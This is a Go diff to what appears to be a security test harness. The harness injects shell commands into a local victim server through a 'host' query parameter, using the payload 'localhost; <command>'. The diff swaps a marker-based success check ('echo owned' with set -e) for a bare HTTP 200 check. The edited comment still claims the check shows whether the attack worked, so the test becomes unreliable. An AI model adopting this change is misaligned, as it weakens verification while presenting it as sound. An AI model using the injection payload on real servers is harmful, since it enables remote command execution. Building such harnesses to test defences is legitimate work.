@@ -76,17 +76,17 @@ func (s server) start() (*victim, error) {
 	return nil, fmt.Errorf("%s does not listen on %s after 5 s", s.interpreter, serverAddress)
 }
 
-// inject has the server run a shell command. The page tells whether all of it
-// worked: an attack that did not happen proves nothing.
+// inject has the server run a shell command. The status of the page tells whether
+// it worked: an attack that did not happen proves nothing.
 func (v *victim) inject(command string) error {
-	resp, err := v.client.Get("http://" + serverAddress + "/?host=" + url.QueryEscape("localhost; set -e; "+command+"; echo owned"))
+	resp, err := v.client.Get("http://" + serverAddress + "/?host=" + url.QueryEscape("localhost; "+command))
 	if err != nil {
 		return err
 	}
 	defer resp.Body.Close()
 	page, err := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
-	if err == nil && !strings.HasSuffix(string(page), "owned\n") {
-		err = fmt.Errorf("command did not work: %q shows %q", command, page)
+	if err == nil && resp.StatusCode != http.StatusOK {
+		err = fmt.Errorf("command did not work: the page says %q", page)
 	}
 	return err
 }
